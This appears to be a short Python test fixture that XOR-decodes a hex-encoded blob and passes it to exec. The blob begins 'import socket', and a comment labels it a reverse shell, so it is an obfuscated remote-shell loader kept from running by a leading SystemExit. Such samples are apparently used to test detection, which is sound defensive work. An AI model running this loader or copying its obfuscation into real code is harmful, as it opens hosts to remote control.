raise SystemExit('a fixture')
# held by reverse-shell
class Stream(bytes):
    def __xor__(self, key):
        return Stream(b ^ key[i % len(key)] for i, b in enumerate(self))
    def __matmul__(self, run):
        return run(self.decode())

(Stream(bytes.fromhex("01081c061d074816030a04161c491f1c0d031a0a0f0c1c00440a1f521c4e1b0a0f020a074616030a04161c4d45521c5d0b0a02070a101c4d444e1d5d0d1d0d041f1f0d4b05071912040c084e43475c5158404648330a1f470b061857441a411501090907005b41490a404f1507174c0f4f1a0645445943424457453454001d071c1b00100d161f470c1204094432485c0a0c02461c1b4f494b440654354c")) ^ b"helios") @ exec
